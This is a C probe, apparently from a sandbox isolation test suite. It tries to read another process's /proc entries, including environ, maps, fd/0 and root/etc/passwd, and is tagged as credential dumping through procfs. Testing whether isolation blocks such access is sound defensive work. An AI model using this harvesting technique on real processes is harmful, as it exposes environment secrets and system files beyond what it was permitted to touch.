// Reads another process's memory, files, environment and namespaces through procfs.
// @technique T1003.007
// @weakness CWE-200
// @stopped-by namespace
// @options {"policy":"compat"}
// @control {"isolation":"none","policy":"compat"}
// @control-done cmdline,status,environ
// @attempts 12
#include <dirent.h>

#include "../attack.h"

int main(void) {
  long victim = told_number("ATTACK_VICTIM");
  static const char* files[] = {"cmdline", "status", "environ", "maps", "auxv", "stat", "limits", "mountinfo", "net/tcp", "root/etc/passwd", "cwd/.", "exe", "fd/0", "ns/mnt"};
  for (unsigned i = 0; i < sizeof files / sizeof *files; i++) {
    char path[128], bytes[64];
    snprintf(path, sizeof path, "/proc/%ld/%s", victim, files[i]);
    long r = i < 10 ? read_file(path, bytes, sizeof bytes) : open(path, O_RDONLY | O_NONBLOCK);
    ATTEMPT(files[i], r);
  }
  return 0;
}
